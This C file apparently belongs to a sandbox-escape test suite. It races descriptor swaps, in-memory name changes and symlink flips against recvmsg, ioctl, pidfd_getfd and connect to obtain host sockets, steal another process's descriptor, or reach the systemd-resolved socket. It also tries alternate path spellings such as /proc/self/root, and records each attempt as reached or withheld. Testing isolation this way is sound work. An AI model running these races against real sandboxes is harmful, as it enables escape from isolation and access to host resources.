// SPDX-License-Identifier: GPL-2.0-only
/*
 * Exchanges: a second thread gives a descriptor's number to another file, or
 * changes a name, while a call that uses it is decided. Also names of a hidden
 * service by other spellings.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

#define NUMBER	200		/* the number that changes its file */
#define TRY_MS	400

/* The file of the number while lklhost looks at it. */
enum { CLOSED, PIPE, CARRIER, CHILD };

#define SERVICE	"/systemd/resolve/io.systemd.Resolve"

static struct {
	void (*set)(bool wanted);
	int decoy;		/* -1: the number is closed */
	int wanted;
	struct sockaddr_un name;
	char link[100];
	bool stop;
} swap;

/** set_number - give NUMBER to a file */
static void set_number(bool wanted)
{
	if (!wanted && swap.decoy < 0)
		close(NUMBER);
	else
		dup2(wanted ? swap.wanted : swap.decoy, NUMBER);
}

/** set_memory - change the name in memory: the service, or one that is missing */
static void set_memory(bool wanted)
{
	swap.name.sun_path[5] = wanted ? SERVICE[1] : 'x';
}

/** set_link - change the file that a symbolic link points to */
static void set_link(bool wanted)
{
	char other[110];

	snprintf(other, sizeof(other), "%s.new", swap.link);
	if (!symlink(wanted ? "/run" SERVICE : "/nothing", other))
		rename(other, swap.link);
}

/** swapper - exchange again and again */
static void *swapper(void *arg)
{
	while (!__atomic_load_n(&swap.stop, __ATOMIC_RELAXED)) {
		swap.set(true);
		swap.set(false);
	}
	return arg;
}

/** carrier - return a connected stream socket of the stack */
static int carrier(void)
{
	struct sockaddr_in in = { .sin_family = AF_INET,
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(in);
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (bind(listener, (struct sockaddr *)&in, len) ||
	    listen(listener, 1) ||
	    getsockname(listener, (struct sockaddr *)&in, &len) ||
	    connect(fd, (struct sockaddr *)&in, len))
		return -1;
	return fd;
}

/** decoy - make the harmless file of a kind; -1 with errno 0 for none */
static int decoy(long kind)
{
	int p[2];

	errno = 0;
	switch (kind) {
	case CARRIER:
		return carrier();
	case PIPE:
		return pipe(p) ? -1 : p[0];
	}
	return -1;
}

/** race - repeat @once while @set exchanges; true: it succeeded */
static bool race(bool (*once)(const struct attempt *at),
		 const struct attempt *at, void (*set)(bool wanted))
{
	struct timespec from, now;
	bool reached = false;
	pthread_t t;

	swap.set = set;
	swap.stop = false;
	if (pthread_create(&t, NULL, swapper, NULL))
		return false;
	clock_gettime(CLOCK_MONOTONIC, &from);
	do {
		reached = once(at);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (!reached && (now.tv_sec - from.tv_sec) * 1000 +
		 (now.tv_nsec - from.tv_nsec) / 1000000 < TRY_MS);
	__atomic_store_n(&swap.stop, true, __ATOMIC_RELAXED);
	pthread_join(t, NULL);
	return reached;
}

/** is_foreign - whether @fd is a socket; if so, use it */
static bool is_foreign(int fd, const char *name)
{
	struct stat st;

	if (fd < 0 || fstat(fd, &st) || !S_ISSOCK(st.st_mode))
		return false;
	mark(fd, name);
	return true;
}

/** receive_once - receive a message that contains a socket of the host */
static bool receive_once(const struct attempt *at)
{
	char room[CMSG_SPACE(sizeof(int))], byte;
	struct iovec iov = { &byte, 1 };
	struct mmsghdr m = { .msg_hdr = {
		.msg_iov = &iov, .msg_iovlen = 1,
		.msg_control = room, .msg_controllen = sizeof(room) } };
	struct cmsghdr *cm;
	bool reached;
	int fd;

	if (at->b == SYS_recvmsg ?
	    recvmsg(NUMBER, &m.msg_hdr, MSG_DONTWAIT) < 0 :
	    recvmmsg(NUMBER, &m, 1, MSG_DONTWAIT, NULL) < 0)
		return false;
	cm = CMSG_FIRSTHDR(&m.msg_hdr);
	if (!cm || cm->cmsg_type != SCM_RIGHTS)
		return false;
	memcpy(&fd, CMSG_DATA(cm), sizeof(fd));
	reached = is_foreign(fd, at->name);
	close(fd);
	return reached;
}

/** receive - recvmsg() and recvmmsg() on a harmless file */
static const char *receive(const struct attempt *at)
{
	swap.wanted = outside_connect();
	swap.decoy = decoy(at->a);
	if (swap.wanted < 0 || (swap.decoy < 0 && errno) ||
	    write(swap.wanted, "f", 1) != 1)
		return failure(errno);
	return race(receive_once, at, set_number) ? "reached" : "withheld";
}

/** hardware_once - ask for the address of a device of the host */
static bool hardware_once(const struct attempt *at)
{
	struct ifreq ifr = { 0 };

	(void)at;
	memcpy(ifr.ifr_name, setting("LINK"), strlen(setting("LINK")));
	return !ioctl(NUMBER, SIOCGIFHWADDR, &ifr);
}

/** hardware - ioctl() of a socket on a harmless file */
static const char *hardware(const struct attempt *at)
{
	swap.wanted = socket(AF_UNIX, SOCK_DGRAM, 0);
	swap.decoy = decoy(at->a);
	return race(hardware_once, at, set_number) ? "reached" : "withheld";
}

/** steal_once - take the connection of the process outside */
static bool steal_once(const struct attempt *at)
{
	int fd = (int)syscall(SYS_pidfd_getfd, NUMBER, number("FD"), 0);
	bool reached = is_foreign(fd, at->name);

	if (fd >= 0)
		close(fd);
	return reached;
}

/** steal - pidfd_getfd() with the pidfd of a process of the run */
static const char *steal(const struct attempt *at)
{
	const char *outcome;
	int p[2];
	pid_t pid;

	if (pipe(p))
		return failure(errno);
	pid = fork();
	if (!pid) {
		close(p[1]);
		/* Only in the child: in its parent, the outcome may have this number. */
		dup2(p[0], (int)number("FD"));
		_exit(read(p[0], p, 1) != 0);
	}
	swap.decoy = (int)syscall(SYS_pidfd_open, pid, 0);
	swap.wanted = (int)syscall(SYS_pidfd_open, number("PID"), 0);
	if (swap.decoy < 0 || swap.wanted < 0)
		return failure(errno);
	outcome = race(steal_once, at, set_number) ? "reached" : "withheld";
	close(p[1]);
	return outcome;
}

/** connect_to - connect to the hidden service by a name */
static bool connect_to(const struct sockaddr_un *un, const char *name)
{
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	bool reached = !connect(fd, (const struct sockaddr *)un, sizeof(*un));

	if (reached)
		mark(fd, name);
	close(fd);
	return reached;
}

/** connect_once - connect to the name that changes */
static bool connect_once(const struct attempt *at)
{
	return connect_to(&swap.name, at->name);
}

/** by_name - exchange the name of the service: in memory, or by a link */
static const char *by_name(const struct attempt *at)
{
	snprintf(swap.link, sizeof(swap.link), "%s/link-%d", setting("DIR"),
		 getpid());
	swap.name.sun_family = AF_UNIX;
	snprintf(swap.name.sun_path, sizeof(swap.name.sun_path), "%s",
		 at->a ? swap.link : "/run" SERVICE);
	return race(connect_once, at, at->a ? set_link : set_memory) ?
	       "reached" : "withheld";
}

/** spelled - name the service in other ways */
static const char *spelled(const struct attempt *at)
{
	static const char *const names[] = {
		"/run" SERVICE, "/run/" SERVICE, "/run/." SERVICE,
		"/proc/self/root/run" SERVICE, "/proc/self/cwd" SERVICE,
		"/proc/thread-self/root/run" SERVICE,
		"/var/run" SERVICE, "/var/../run" SERVICE,
		"." SERVICE, "../run" SERVICE, "/proc/self/fd/100" SERVICE,
		"/proc/self/fd/101",
	};
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	size_t i;

	if (chdir("/run"))
		return failure(errno);
	dup2(open("/run", O_PATH), 100);
	dup2(open("/run" SERVICE, O_PATH), 101);
	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(un.sun_path, sizeof(un.sun_path), "%s", names[i]);
		if (connect_to(&un, at->name))
			return word("reached by %s", names[i]);
	}
	return "withheld";
}

const struct attempt exchange_attempts[] = {
	{ "exchange-recvmsg-closed", receive, CLOSED, SYS_recvmsg },
	{ "exchange-recvmsg-pipe", receive, PIPE, SYS_recvmsg },
	{ "exchange-recvmsg-carrier", receive, CARRIER, SYS_recvmsg },
	{ "exchange-recvmmsg-closed", receive, CLOSED, SYS_recvmmsg },
	{ "exchange-recvmmsg-pipe", receive, PIPE, SYS_recvmmsg },
	{ "exchange-ioctl-closed", hardware, CLOSED, 0 },
	{ "exchange-ioctl-pipe", hardware, PIPE, 0 },
	{ "exchange-pidfd-getfd", steal, CHILD, 0 },
	{ "exchange-name-memory", by_name, 0, 0 },
	{ "exchange-name-link", by_name, 1, 0 },
	{ "exchange-name-spelled", spelled, 0, 0 },
	{ NULL, NULL, 0, 0 },
};
